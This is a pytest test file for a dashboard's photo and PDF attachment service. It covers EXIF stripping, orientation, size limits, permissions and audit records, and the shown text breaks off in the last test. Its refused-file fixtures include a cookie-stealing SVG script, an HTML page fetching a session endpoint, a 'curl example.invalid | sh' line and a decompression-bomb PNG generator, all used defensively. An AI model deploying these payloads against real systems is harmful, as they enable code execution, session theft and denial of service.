"""Evidence on records (issue 15), through the service, on each database: photos and PDFs attached to a record,
all or none; every bad file refused with a message naming it and nothing stored; a photo's original kept as
uploaded (with its EXIF) and shown only as re-encoded copies without it, upright; the limits (size, pixels,
twelve a stage); who may attach, see an original and remove; removal, a record's deletion, and a backup restored.

The files are made here, with Pillow, pillow-heif and pypdf: no file is read from disk or the network."""

from __future__ import annotations

import hashlib
import json
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from PIL import ExifTags, Image
from sqlalchemy import Engine, event, select
from sqlmodel import Session, col

from dashboard.clock import now
from dashboard.db import make_engine
from dashboard.services.attachments import (
    FILES_PER_STAGE,
    attach,
    attachment_counts,
    attachments_of,
    create_with_files,
    latest_thumbnails,
    read_copy,
    remove_attachment,
)
from dashboard.services.backup import backup_database, restore_database
from dashboard.services.hazards import create_hazard
from dashboard.services.permissions import SYSTEM, Actor, PermissionDenied
from dashboard.services.records import create_record, delete_record, record_inspection
from models import Attachment, AttachmentStage, AuditLog, Enterprise, Hazard, RecordInvalid, Role
from tests.photos import phone_exif
from tests.records import data_revision, general_hazard_data, row_counts

STAFF = Actor("li.staff", Role.staff)
OTHER_STAFF = Actor("wang.staff", Role.staff)
ADMIN = Actor("admin", Role.admin)
COMMITTEE = Actor("zhou.committee", Role.committee)
FINANCE = Actor("zhao.finance", Role.finance)
STORED = ("attachment", "attachment_blob", "audit_log")

TAKEN_AT = datetime(2026, 11, 17, 9, 30)
PLACE = "30.260000,120.150000"  # 30°15'36" N, 120°9' E: inside the park


# --- files, made here ----------------------------------------------------------------------------


def phone_photo(size: tuple[int, int] = (40, 20), orientation: int = 6) -> bytes:
    """A JPEG as a phone takes it: held upright, so stored sideways with Orientation 6, with the time it was taken,
    where, and the device."""
    picture = Image.new("RGB", size, (200, 40, 40))
    picture.paste((40, 40, 200), (0, 0, size[0] // 2, size[1]))  # the left half blue: the way up can be seen
    out = BytesIO()
    picture.save(out, "JPEG", exif=phone_exif(TAKEN_AT, orientation=orientation), quality=90)
    return out.getvalue()


def picture(file_format: str, size: tuple[int, int] = (30, 20), mode: str = "RGB", **options: Any) -> bytes:
    if file_format == "HEIF":
        from pillow_heif import register_heif_opener

        register_heif_opener()
    out = BytesIO()
    Image.new(mode, size, "green").save(out, file_format, **options)
    return out.getvalue()


def pdf(pages: int = 2) -> bytes:
    sheets = [Image.new("RGB", (595, 842), "white") for _ in range(pages)]
    out = BytesIO()
    sheets[0].save(out, "PDF", save_all=True, append_images=sheets[1:])
    return out.getvalue()


def password_protected_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    writer.append(PdfReader(BytesIO(pdf(1))))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def png_bomb(side: int = 20_000) -> bytes:
    """A PNG of about 50 KB that claims side × side pixels (400 megapixels at 20000): every row the same stripes,
    one bit a pixel, packed by zlib. Decoded, it would take 400 MB; as RGB copies, more than a gigabyte. The pixels
    alternate so that a decoding writes every page of its memory (pages left zero would not be resident)."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    packer = zlib.compressobj(9)
    row = b"\x00" + b"\x55" * ((side + 7) // 8)  # the filter byte, then the pixels
    pixels = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def cut_short(data: bytes) -> bytes:
    return data[: len(data) // 2]


HTML = b"<!DOCTYPE html><html><body><script>fetch('/auth/session')</script></body></html>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b"<script>alert(document.cookie)</script></svg>")
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(x) print\nshowpage\n"
NOT_A_TYPE = "“{}” is not a photo (JPEG, PNG, WebP or HEIC) or a PDF document, whatever its name says; only those " \
             "can be attached."
BAD_FILES = [
    pytest.param("整改通知.jpg", HTML, NOT_A_TYPE.format("整改通知.jpg"), id="html-named-jpg"),
    pytest.param("board.svg", SVG, NOT_A_TYPE.format("board.svg"), id="svg"),
    pytest.param("photo.jpg.sh", SCRIPT, NOT_A_TYPE.format("photo.jpg.sh"), id="shell-script"),
    pytest.param("logo.eps", EPS, NOT_A_TYPE.format("logo.eps"), id="eps"),
    pytest.param("cut.jpg", "truncated-jpeg",
                 "“cut.jpg” cannot be read as a JPEG file: it is damaged or incomplete. Save or export it again and "
                 "attach the new file.", id="truncated-jpeg"),
    pytest.param("empty.jpg", b"", "“empty.jpg” is empty (0 bytes); nothing to attach.", id="empty"),
    pytest.param("huge.jpg", b"\xff\xd8\xff\xe0" + bytes(16 * 1024 * 1024),
                 "“huge.jpg” is 16 MB; a file attached to a record can be at most 15 MB.", id="over-15-mb"),
    pytest.param("bomb.png", "bomb",
                 "“bomb.png” has more than 80 megapixels; photos that large cannot be attached. Attach a smaller copy "
                 "of it.", id="decompression-bomb"),
    pytest.param("decision.pdf", "protected-pdf",
                 "“decision.pdf” is a password-protected PDF; save it without the password and attach it again.",
                 id="password-protected-pdf"),
    pytest.param("report.pdf", b"%PDF-1.7\n<html>not a document</html>\n",
                 "“report.pdf” cannot be read as a PDF file: it is damaged or incomplete. Save or export it again and "
                 "attach the new file.", id="broken-pdf"),
]
MADE = {"truncated-jpeg": lambda: cut_short(phone_photo((400, 300))), "bomb": png_bomb,
        "protected-pdf": password_protected_pdf}


# --- the world each test runs in -----------------------------------------------------------------


def attached(engine: Engine, files: list[tuple[str, bytes]], *, actor: Actor = STAFF, table: str = "hazard",
             record_id: int, stage: str = "found") -> list[Attachment]:
    with Session(engine, expire_on_commit=False) as s:
        rows = attach(session=s, actor=actor, table=table, record_id=record_id, stage=stage, files=files)
        s.commit()
    return rows


def served(engine: Engine, attachment_id: int, kind: str, actor: Actor = STAFF) -> tuple[bytes, str]:
    with Session(engine) as s:
        copy = read_copy(s, actor, attachment_id, kind)
    assert copy is not None
    return copy.data, copy.media_type


def refusal(engine: Engine, files: list[tuple[str, bytes]], **where: Any) -> RecordInvalid:
    """The refusal of attaching ``files``; the caller checks that nothing was stored."""
    with Session(engine) as s, pytest.raises(RecordInvalid) as caught:
        attach(session=s, actor=STAFF, **{"table": "hazard", "stage": "found", **where}, files=files)
        s.commit()
    return caught.value


def nothing_stored(engine: Engine) -> tuple[dict[str, int], int]:
    return row_counts(engine, *STORED), data_revision(engine)


def gps_of(data: bytes) -> dict[int, Any]:
    return dict(Image.open(BytesIO(data)).getexif().get_ifd(ExifTags.IFD.GPSInfo))


# --- what is stored, and what is served ---------------------------------------------------------


def test_a_phone_photo_keeps_its_original_and_is_served_upright_without_its_exif(
    engine: Engine, hazard: Hazard
) -> None:
    photo = phone_photo()
    [row] = attached(engine, [("IMG_2041.jpg", photo)], record_id=hazard.id or 0)

    original, original_type = served(engine, row.id or 0, "original")
    assert (original, original_type) == (photo, "image/jpeg")
    assert row.sha256 == hashlib.sha256(photo).hexdigest()
    assert (row.media_type, row.bytes, row.original_name, row.uploaded_by) == ("image/jpeg", len(photo),
                                                                               "IMG_2041.jpg", "li.staff")
    assert abs((row.uploaded_at or datetime.min) - now()) < timedelta(minutes=1)  # the app's clock, not the camera's
    assert (row.claimed_taken_at, row.claimed_gps) == (TAKEN_AT, PLACE)
    assert gps_of(original)  # the position is in the original ...

    for kind in ("display", "thumbnail"):
        data, media_type = served(engine, row.id or 0, kind, actor=FINANCE)
        copy = Image.open(BytesIO(data))
        assert media_type == "image/jpeg" and copy.format == "JPEG"
        assert copy.size == (20, 40)  # turned upright: 20 wide, 40 high
        assert not copy.getexif() and not gps_of(data)  # ... and in no copy served: no EXIF at all
        assert b"Exif" not in data and b"Huawei" not in data
        assert copy.getpixel((10, 2))[2] > 150  # the blue half on top, as the phone was held
    assert (row.width, row.height) == (20, 40)


def test_a_heic_photo_is_drawn_as_heif_orients_it_and_its_exif_orientation_is_not_applied_a_second_time(
    engine: Engine, hazard: Hazard
) -> None:
    """A phone's HEIC carries its rotation twice: HEIF's own transformation (``irot``, applied by libheif as the
    photo is decoded) and the same value in its EXIF. The HEIF standard makes the first authoritative, so applying
    the EXIF Orientation as well would turn an iPhone photo a quarter too far. This file says Orientation 6 in its
    EXIF and carries no ``irot``: it is shown as HEIF draws it, 40 wide and 20 high, the blue half on the left."""
    from pillow_heif import register_heif_opener

    register_heif_opener()
    drawn = Image.new("RGB", (40, 20), (200, 40, 40))
    drawn.paste((40, 40, 200), (0, 0, 20, 20))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    out = BytesIO()
    drawn.save(out, "HEIF", exif=exif, quality=90)
    assert b"irot" not in out.getvalue()

    [row] = attached(engine, [("IMG_0042.HEIC", out.getvalue())], record_id=hazard.id or 0)

    assert (row.media_type, row.width, row.height) == ("image/heic", 40, 20)
    for kind in ("display", "thumbnail"):
        data, media_type = served(engine, row.id or 0, kind, actor=FINANCE)
        copy = Image.open(BytesIO(data))
        assert (media_type, copy.size) == ("image/jpeg", (40, 20))
        assert copy.getpixel((5, 10))[2] > 150 and copy.getpixel((35, 10))[0] > 150  # blue left, red right
        assert not copy.getexif()


def test_a_large_photo_is_shown_at_most_2048_px_and_its_thumbnail_320(engine: Engine, hazard: Hazard) -> None:
    [row] = attached(engine, [("wide.jpg", phone_photo((3000, 1000), orientation=1))], record_id=hazard.id or 0)
    display, _ = served(engine, row.id or 0, "display")
    thumbnail, _ = served(engine, row.id or 0, "thumbnail")
    assert Image.open(BytesIO(display)).size == (2048, 683)
    assert Image.open(BytesIO(thumbnail)).size == (320, 107)
    assert (row.width, row.height) == (3000, 1000)


@pytest.mark.parametrize(("name", "made", "media_type"), [
    ("board.png", lambda: picture("PNG", mode="RGBA"), "image/png"),
    ("board.webp", lambda: picture("WEBP"), "image/webp"),
    ("IMG_0007.HEIC", lambda: picture("HEIF"), "image/heic"),
])
def test_png_webp_and_heic_photos_are_attached_with_copies_for_everyone(
    engine: Engine, hazard: Hazard, name: str, made: Any, media_type: str
) -> None:
    data = made()
    [row] = attached(engine, [(name, data)], record_id=hazard.id or 0)
    assert (row.media_type, row.width, row.height, row.page_count) == (media_type, 30, 20, None)
    assert served(engine, row.id or 0, "original") == (data, media_type)
    display, display_type = served(engine, row.id or 0, "display", actor=FINANCE)
    assert display_type == "image/jpeg" and Image.open(BytesIO(display)).size == (30, 20)


def test_a_pdf_is_checked_counted_and_shown_whole_with_its_first_page_as_thumbnail(
    engine: Engine, enterprise: Enterprise
) -> None:
    with Session(engine, expire_on_commit=False) as s:
        accident = create_record(session=s, actor=STAFF, table="accident", data={
            "enterprise_id": enterprise.id, "occurred_on": "2026-02-03", "serious_injuries": 1,
            "direct_loss_yuan": 20000, "description": "Hand caught in a press"})
        s.commit()
    document = pdf(pages=3)
    [row] = attached(engine, [("调查报告.pdf", document)], table="accident", record_id=accident.id or 0,
                     stage="evidence")
    assert (row.media_type, row.page_count, row.width, row.claimed_gps) == ("application/pdf", 3, None, None)
    assert served(engine, row.id or 0, "display", actor=FINANCE) == (document, "application/pdf")
    thumbnail, media_type = served(engine, row.id or 0, "thumbnail", actor=FINANCE)
    width, height = Image.open(BytesIO(thumbnail)).size
    assert media_type == "image/jpeg" and height == 320 and abs(width - 320 * 595 / 842) < 1  # an A4 page, upright


# --- bad files -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "data", "message"), BAD_FILES)
def test_each_bad_file_is_refused_with_its_message_and_nothing_is_stored(
    engine: Engine, hazard: Hazard, name: str, data: bytes | str, message: str
) -> None:
    content = MADE[data]() if isinstance(data, str) else data
    before = nothing_stored(engine)
    refused = refusal(engine, [(name, content)], record_id=hazard.id)
    assert refused.messages("en") == [message]
    assert name in refused.messages("zh")[0] and refused.messages("zh") != [message]
    assert nothing_stored(engine) == before


def test_one_bad_file_among_good_ones_stores_none_and_every_bad_one_is_named(engine: Engine, hazard: Hazard) -> None:
    before = nothing_stored(engine)
    refused = refusal(engine, [("before.jpg", phone_photo()), ("notice.jpg", HTML), ("empty.png", b""),
                               ("after.png", picture("PNG"))], record_id=hazard.id)
    assert [problem.field for problem in refused.problems] == ["files[2]", "files[3]"]
    assert refused.messages("zh") == [
        "“notice.jpg”不是照片(JPEG、PNG、WebP 或 HEIC)或 PDF 文档(无论其文件名如何),只能上传这几类文件。",
        "“empty.png”是空文件(0 字节),无法作为附件。"]
    assert nothing_stored(engine) == before
    with Session(engine) as s:
        assert attachments_of(s, "hazard", hazard.id or 0) == []


def test_a_decompression_bomb_is_refused_in_bounded_memory(engine: Engine, hazard: Hazard, db_url: str,
                                                            tmp_path: Path) -> None:
    """In a process of its own, whose peak resident memory is read before and after: Pillow decodes into memory
    of its own, which tracemalloc does not see (decoding this bomb shows 2 MB there, and 180 to 270 MB more
    resident). The same process then decodes the bomb with Pillow's limit lifted, to show the measure sees such
    a decoding."""
    bomb = tmp_path / "bomb.png"
    bomb.write_bytes(png_bomb())
    child = subprocess.run([sys.executable, "-c", MEASURE_THE_BOMB, db_url, str(hazard.id), str(bomb)],
                           capture_output=True, text=True, timeout=300, check=False)
    assert child.returncode == 0, child.stderr
    outcome = json.loads(child.stdout.strip().splitlines()[-1])
    assert outcome["message"] == ("“bomb.png” has more than 80 megapixels; photos that large cannot be attached. "
                                  "Attach a smaller copy of it.")
    assert outcome["refused_mb"] < 40, outcome  # the file is 50 KB; its pixels would be 400 MB
    assert outcome["decoded_mb"] > 100, outcome  # the measure sees a decoding (the bomb's: 180 to 270 MB here)


MEASURE_THE_BOMB = """
import json, sys
from pathlib import Path
from PIL import Image
from sqlmodel import Session
from dashboard.db import make_engine
from dashboard.services.attachments import attach
from dashboard.services.permissions import Actor
from models import RecordInvalid, Role

url, hazard_id, path = sys.argv[1], int(sys.argv[2]), Path(sys.argv[3])
data = path.read_bytes()
engine = make_engine(url)
with Session(engine) as session:
    session.connection()
    # VmHWM: this process's own peak (getrusage's ru_maxrss keeps the parent's peak across fork and exec,
    # so a large pytest process would hide the decoding)
    peak = lambda: int(next(l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM:'))) / 1024
    start = peak()
    try:
        attach(session=session, actor=Actor("li.staff", Role.staff), table="hazard", record_id=hazard_id,
               stage="found", files=[("bomb.png", data)])
        message = None
    except RecordInvalid as refused:
        message = refused.messages("en")[0]
    refused_mb = peak() - start
Image.MAX_IMAGE_PIXELS = None
Image.open(path).load()
print(json.dumps({"message": message, "refused_mb": refused_mb, "decoded_mb": peak() - start - refused_mb}))
"""


# --- limits and places ---------------------------------------------------------------------------


def test_a_thirteenth_file_on_one_stage_is_refused_and_the_other_stage_still_takes_files(
    engine: Engine, hazard: Hazard
) -> None:
    hazard_id = hazard.id or 0
    twelve = attached(engine, [(f"before-{n}.png", picture("PNG")) for n in range(1, FILES_PER_STAGE + 1)],
                      record_id=hazard_id)
    before = nothing_stored(engine)
    refused = refusal(engine, [("before-13.png", picture("PNG"))], record_id=hazard_id)
    assert refused.messages("en") == ["At most 12 files can be attached to one record at one stage: this one has 12, "
                                      "and 1 more would make 13."]
    assert nothing_stored(engine) == before
    attached(engine, [("after-1.png", picture("PNG"))], record_id=hazard_id, stage="rectified")
    with Session(engine) as s:
        remove_attachment(session=s, actor=STAFF, attachment_id=twelve[0].id or 0, reason="Wrong hazard")
        s.commit()
    attached(engine, [("before-13.png", picture("PNG"))], record_id=hazard_id)  # a removed file frees its place
    with Session(engine) as s:
        names = [row.original_name for row in attachments_of(s, "hazard", hazard_id)]
    assert names == [f"before-{n}.png" for n in range(2, 13)] + ["after-1.png", "before-13.png"]


@pytest.mark.parametrize(("where", "message"), [
    ({"stage": "evidence"}, "Stage must be one of found, rectified; “evidence” is not."),
    ({"table": "enterprise", "stage": "evidence"},
     "Record must be one of hazard, sign_check, inspection, accident, enforcement, training; “enterprise” is not."),
    ({"record_id": 999_999}, "Record 999999 does not exist."),
])
def test_a_file_goes_only_to_a_record_that_exists_at_a_stage_it_has(
    engine: Engine, hazard: Hazard, where: dict[str, Any], message: str
) -> None:
    before = nothing_stored(engine)
    refused = refusal(engine, [("ok.png", picture("PNG"))], **{"record_id": hazard.id, **where})
    assert refused.messages("en") == [message]
    assert nothing_stored(engine) == before


# --- files saved with a new record ---------------------------------------------------------------


def created_with(engine: Engine, files: list[tuple[str, bytes]], data: dict[str, Any], *, actor: Actor = STAFF,
                 stage: str = "found") -> tuple[Hazard, list[Attachment]]:
    """A new hazard (``data``) and ``files`` at ``stage``, in one transaction, committed."""
    with Session(engine, expire_on_commit=False) as s:
        made = create_with_files(session=s, actor=actor, table="hazard", stage=stage, files=files,
                                 create=lambda: create_hazard(session=s, actor=actor, data=data))
        s.commit()
    return made


def nothing_written(engine: Engine) -> tuple[dict[str, int], int]:
    return row_counts(engine, "hazard", *STORED), data_revision(engine)


def test_a_new_record_and_its_files_are_written_in_one_transaction(engine: Engine, enterprise: Enterprise) -> None:
    photo = phone_photo()
    revision = data_revision(engine)
    hazard, rows = created_with(engine, [("IMG_2041.jpg", photo), ("notice.pdf", pdf(1))],
                                general_hazard_data(enterprise.id or 0))
    assert [(row.entity, row.entity_id, row.stage, row.original_name) for row in rows] == [
        ("hazard", hazard.id, "found", "IMG_2041.jpg"), ("hazard", hazard.id, "found", "notice.pdf")]
    assert data_revision(engine) > revision
    with Session(engine) as s:
        assert [row.id for row in attachments_of(s, "hazard", hazard.id or 0)] == [row.id for row in rows]
        audits = s.execute(select(AuditLog).where(col(AuditLog.entity) == "attachment")
                           .order_by(col(AuditLog.id))).scalars().all()
    assert [(a.action, a.username, a.entity_id) for a in audits] == [("attach", "li.staff", row.id) for row in rows]
    assert served(engine, rows[0].id or 0, "original")[0] == photo


def test_one_bad_file_writes_neither_the_new_record_nor_any_file(engine: Engine, enterprise: Enterprise) -> None:
    before = nothing_written(engine)
    with pytest.raises(RecordInvalid) as refused:
        created_with(engine, [("before.jpg", phone_photo()), ("notice.jpg", HTML)],
                     general_hazard_data(enterprise.id or 0))
    assert refused.value.messages("en") == [NOT_A_TYPE.format("notice.jpg")]
    assert nothing_written(engine) == before


def test_a_refused_record_stores_no_file_and_its_problems_come_with_the_files(
    engine: Engine, enterprise: Enterprise
) -> None:
    before = nothing_written(engine)
    with pytest.raises(RecordInvalid) as refused:
        created_with(engine, [("before.jpg", phone_photo()), ("empty.png", b"")],
                     general_hazard_data(enterprise.id or 0, category=None))
    assert [problem.field for problem in refused.value.problems] == ["category", "files[2]"]
    assert nothing_written(engine) == before
    with pytest.raises(RecordInvalid) as refused:  # a good file does not make a refused record pass
        created_with(engine, [("before.jpg", phone_photo())], general_hazard_data(enterprise.id or 0, category=None))
    assert [problem.field for problem in refused.value.problems] == ["category"]
    assert nothing_written(engine) == before


@pytest.mark.parametrize(("files", "stage", "message"), [
    ([(f"before-{n}.png", "png") for n in range(1, FILES_PER_STAGE + 2)], "found",
     "At most 12 files can be attached to one record at one stage: this one has 0, and 13 more would make 13."),
    ([("ok.png", "png")], "evidence", "Stage must be one of found, rectified; “evidence” is not."),
])
def test_a_new_record_takes_at_most_twelve_files_at_a_stage_it_has(
    engine: Engine, enterprise: Enterprise, files: list[tuple[str, str]], stage: str, message: str
) -> None:
    before = nothing_written(engine)
    with pytest.raises(RecordInvalid) as refused:
        created_with(engine, [(name, picture("PNG")) for name, _ in files], general_hazard_data(enterprise.id or 0),
                     stage=stage)
    assert refused.value.messages("en") == [message]
    assert nothing_written(engine) == before


def test_a_new_record_with_no_files_is_the_record_alone(engine: Engine, enterprise: Enterprise) -> None:
    hazard, rows = created_with(engine, [], general_hazard_data(enterprise.id or 0))
    assert hazard.id and rows == []
    assert row_counts(engine, *STORED)["attachment"] == 0


@pytest.mark.parametrize("actor", [COMMITTEE, FINANCE], ids=["committee", "finance"])
def test_a_role_that_may_not_edit_records_creates_nothing_with_files(
    engine: Engine, enterprise: Enterprise, actor: Actor
) -> None:
    before = nothing_written(engine)
    with pytest.raises(PermissionDenied):
        created_with(engine, [("ok.png", picture("PNG"))], general_hazard_data(enterprise.id or 0), actor=actor)
    assert nothing_written(engine) == before


# --- who may do what -----------------------------------------------------------------------------


@pytest.mark.parametrize("actor", [COMMITTEE, FINANCE], ids=["committee", "finance"])
def test_a_role_that_may_not_edit_records_attaches_nothing(engine: Engine, hazard: Hazard, actor: Actor) -> None:
    before = nothing_stored(engine)
    with Session(engine) as s, pytest.raises(PermissionDenied):
        attach(session=s, actor=actor, table="hazard", record_id=hazard.id or 0, stage="found",
               files=[("ok.png", picture("PNG"))])
        s.commit()
    assert nothing_stored(engine) == before


def test_originals_go_to_the_parks_roles_and_copies_to_every_role(engine: Engine, hazard: Hazard) -> None:
    """Finance sees the display copy and the thumbnail, not the original, whose EXIF says where it was taken and
    with what; administrators, staff and the committee see it too."""
    photo = phone_photo()
    [row] = attached(engine, [("IMG_2041.jpg", photo)], record_id=hazard.id or 0)
    for actor in (ADMIN, STAFF, COMMITTEE):
        assert served(engine, row.id or 0, "original", actor=actor)[0] == photo
    with Session(engine) as s, pytest.raises(PermissionDenied):
        read_copy(s, FINANCE, row.id or 0, "original")
    for actor in (ADMIN, STAFF, COMMITTEE, FINANCE):
        assert not gps_of(served(engine, row.id or 0, "display", actor=actor)[0])


def test_a_file_is_removed_by_its_uploader_with_a_reason_and_is_gone_from_every_later_view(
    engine: Engine, hazard: Hazard
) -> None:
    hazard_id = hazard.id or 0
    [row, kept] = attached(engine, [("wrong.jpg", phone_photo()), ("right.png", picture("PNG"))],
                           record_id=hazard_id)
    with Session(engine) as s, pytest.raises(PermissionDenied):
        remove_attachment(session=s, actor=OTHER_STAFF, attachment_id=row.id or 0, reason="Not mine")
    with Session(engine) as s, pytest.raises(RecordInvalid) as blank:
        remove_attachment(session=s, actor=STAFF, attachment_id=row.id or 0, reason="   ")
    assert blank.value.messages("en") == ["Reason is required."]
    assert served(engine, row.id or 0, "display")  # still there after both refusals

    with Session(engine) as s:
        remove_attachment(session=s, actor=STAFF, attachment_id=row.id or 0, reason="Photo of the wrong hazard")
        s.commit()
    for kind in ("original", "display", "thumbnail"):
        with Session(engine) as s, pytest.raises(RecordInvalid) as gone:
            read_copy(s, ADMIN, row.id or 0, kind)
        assert gone.value.messages("en") == ["This file was removed by li.staff on 2026-11-18: Photo of the wrong "
                                             "hazard"]
    assert row_counts(engine, "attachment_blob")["attachment_blob"] == 3  # the kept photo's three copies only
    with Session(engine) as s:
        assert [a.id for a in attachments_of(s, "hazard", hazard_id)] == [kept.id]
        assert attachment_counts(s, "hazard", [hazard_id]) == {hazard_id: 1}
        audit = s.execute(select(AuditLog).where(col(AuditLog.action) == "remove")).scalars().one()
    after = json.loads(audit.after_json or "{}")
    assert (audit.username, audit.entity, audit.entity_id) == ("li.staff", "attachment", row.id)
    assert (after["sha256"], after["removed_by"], after["removed_reason"]) == (
        row.sha256, "li.staff", "Photo of the wrong hazard")
    assert after["removed_at"].startswith("2026-11-18T02:00")  # the app's clock, in UTC


def test_an_administrator_removes_anyones_file(engine: Engine, hazard: Hazard) -> None:
    [row] = attached(engine, [("dup.png", picture("PNG"))], record_id=hazard.id or 0)
    with Session(engine) as s:
        remove_attachment(session=s, actor=ADMIN, attachment_id=row.id or 0, reason="Uploaded twice")
        s.commit()
    with Session(engine) as s:
        assert attachments_of(s, "hazard", hazard.id or 0) == []


def test_an_attachment_is_audited_with_its_fingerprint(engine: Engine, hazard: Hazard) -> None:
    photo = phone_photo()
    revision = data_revision(engine)
    [row] = attached(engine, [("IMG_2041.jpg", photo)], record_id=hazard.id or 0)
    assert data_revision(engine) > revision
    with Session(engine) as s:
        audit = s.execute(select(AuditLog).where(col(AuditLog.action) == "attach")).scalars().one()
    after = json.loads(audit.after_json or "{}")
    assert (audit.username, audit.entity, audit.entity_id) == ("li.staff", "attachment", row.id)
    assert (after["entity"], after["entity_id"], after["stage"], after["sha256"], after["claimed_gps"]) == (
        "hazard", hazard.id, "found", hashlib.sha256(photo).hexdigest(), PLACE)


# --- lists ---------------------------------------------------------------------------------------


def test_the_counts_of_a_list_of_records_come_in_one_query(engine: Engine, enterprise: Enterprise) -> None:
    with Session(engine, expire_on_commit=False) as s:
        ids = [create_hazard(session=s, actor=SYSTEM, data=general_hazard_data(enterprise.id or 0)).id or 0
               for _ in range(3)]
        s.commit()
    attached(engine, [("a.png", picture("PNG")), ("b.png", picture("PNG"))], record_id=ids[0])
    attached(engine, [("c.png", picture("PNG"))], record_id=ids[2], stage="rectified")
    statements: list[str] = []
    event.listen(engine, "before_cursor_execute", lambda *args: statements.append(args[2]))
    with Session(engine) as s:
        counts = attachment_counts(s, "hazard", ids)
    assert counts == {ids[0]: 2, ids[1]: 0, ids[2]: 1}
    assert len([sql for sql in statements if "attachment" in sql]) == 1


def coloured(colour: str) -> bytes:
    """A small JPEG of one colour: photos that can be told apart by their thumbnails."""
    out = BytesIO()
    Image.new("RGB", (40, 30), colour).save(out, "JPEG")
    return out.getvalue()


def test_a_lists_picture_of_each_record_is_its_latest_thumbnail_after_rectification_first_in_one_query(
    engine: Engine, enterprise: Enterprise, set_clock: Callable[[str], None],
) -> None:
    with Session(engine, expire_on_commit=False) as s:
        ids = [create_hazard(session=s, actor=SYSTEM, data=general_hazard_data(enterprise.id or 0)).id or 0
               for _ in range(5)]
        s.commit()
    both, found_only, removed, document, bare = ids
    set_clock("2026-11-10T09:00:00+08:00")
    [early] = attached(engine, [("after-1.jpg", coloured("green"))], record_id=both, stage="rectified")
    [gone] = attached(engine, [("wrong.jpg", coloured("black"))], record_id=removed)
    [first] = attached(engine, [("as-found-1.jpg", coloured("red"))], record_id=found_only)
    set_clock("2026-11-12T09:00:00+08:00")
    attached(engine, [("as-found.jpg", coloured("orange"))], record_id=both)  # later, but as found: passed over
    [sheet] = attached(engine, [("整改报告.pdf", pdf(1))], record_id=document, stage="rectified")
    set_clock("2026-11-14T07:30:00+08:00")  # 23:30 on the 13th in UTC
    [latest] = attached(engine, [("after-2.jpg", coloured("blue"))], record_id=both, stage="rectified")
    [second] = attached(engine, [("as-found-2.jpg", coloured("yellow"))], record_id=found_only)
    with Session(engine) as s:
        remove_attachment(session=s, actor=STAFF, attachment_id=gone.id or 0, reason="Another hazard's photo")
        s.commit()
    statements: list[str] = []
    event.listen(engine, "before_cursor_execute", lambda *args: statements.append(args[2]))
    stages = (AttachmentStage.rectified, AttachmentStage.found)
    with Session(engine) as s:
        pictures = latest_thumbnails(s, "hazard", ids, stages=stages)
    assert len([sql for sql in statements if "attachment" in sql]) == 1  # the whole list at once
    with Session(engine) as s:
        before_the_14th = latest_thumbnails(s, "hazard", ids, stages=stages,
                                            received_before=datetime(2026, 11, 13, 16, tzinfo=UTC))
    assert {record: p.attachment_id for record, p in pictures.items()} == {
        both: latest.id, found_only: second.id, document: sheet.id}  # none for the removed photo, none for bare
    assert {record: p.attachment_id for record, p in before_the_14th.items()} == {
        both: early.id, found_only: first.id, document: sheet.id}
    for picture_ in pictures.values():  # the thumbnail, not the original or the display copy
        assert (picture_.thumbnail.data, picture_.thumbnail.media_type) == served(
            engine, picture_.attachment_id, "thumbnail")
    assert Image.open(BytesIO(pictures[document].thumbnail.data)).size[1] == 320  # the PDF's first page
    assert pictures[both].stage == AttachmentStage.rectified
    assert pictures[both].uploaded_at.isoformat().startswith("2026-11-14T07:30")  # in the park's time
    assert pictures[both].uploaded_at.utcoffset() == timedelta(hours=8)
    assert bare not in pictures and removed not in pictures


# --- records deleted, backups restored ----------------------------------------------------------


def test_deleting_a_record_deletes_its_files_with_it_and_a_refused_delete_keeps_them(
    engine: Engine, enterprise: Enterprise
) -> None:
    """A hazard cannot be deleted (it is reopened instead); the records that can take their files with them. An
    inspection that found hazards cannot be deleted, and keeps its files even when the caller commits."""
    eid = enterprise.id or 0
    with Session(engine, expire_on_commit=False) as s:
        training = create_record(session=s, actor=STAFF, table="training", data={
            "enterprise_id": eid, "held_on": "2026-05-20", "audience": "all_staff", "attendees": 48, "hours": 4})
        inspection, _ = record_inspection(session=s, actor=STAFF, inspection={
            "enterprise_id": eid, "inspected_on": "2026-04-02", "tier": "park", "inspector": "陈明"}, hazards=[{
                "category": "signage", "severity": "general", "description": "Board faded",
                "responsible_person": "王强", "deadline": "2026-05-20"}])
        s.commit()
    sheet = pdf(1)
    [gone] = attached(engine, [("签到表.pdf", sheet)], table="training", record_id=training.id or 0,
                      stage="evidence")
    attached(engine, [("检查表.pdf", sheet)], table="inspection", record_id=inspection.id or 0, stage="evidence")

    with Session(engine) as s:
        delete_record(session=s, actor=STAFF, table="training", record_id=training.id or 0)
        s.commit()
    with Session(engine) as s, pytest.raises(RecordInvalid):
        delete_record(session=s, actor=STAFF, table="inspection", record_id=inspection.id or 0)
    with Session(engine) as s:
        s.commit()
        assert attachments_of(s, "training", training.id or 0) == []
        assert s.get(Attachment, gone.id) is None
        assert len(attachments_of(s, "inspection", inspection.id or 0)) == 1
        audit = s.execute(select(AuditLog).where(col(AuditLog.entity) == "attachment",
                                                 col(AuditLog.action) == "delete")).scalars().one()
    assert json.loads(audit.before_json or "{}")["sha256"] == hashlib.sha256(sheet).hexdigest()
    assert row_counts(engine, "attachment_blob")["attachment_blob"] == 2  # the inspection's PDF and its thumbnail


def test_a_backup_restored_serves_the_same_files(engine: Engine, hazard: Hazard, db_url: str,
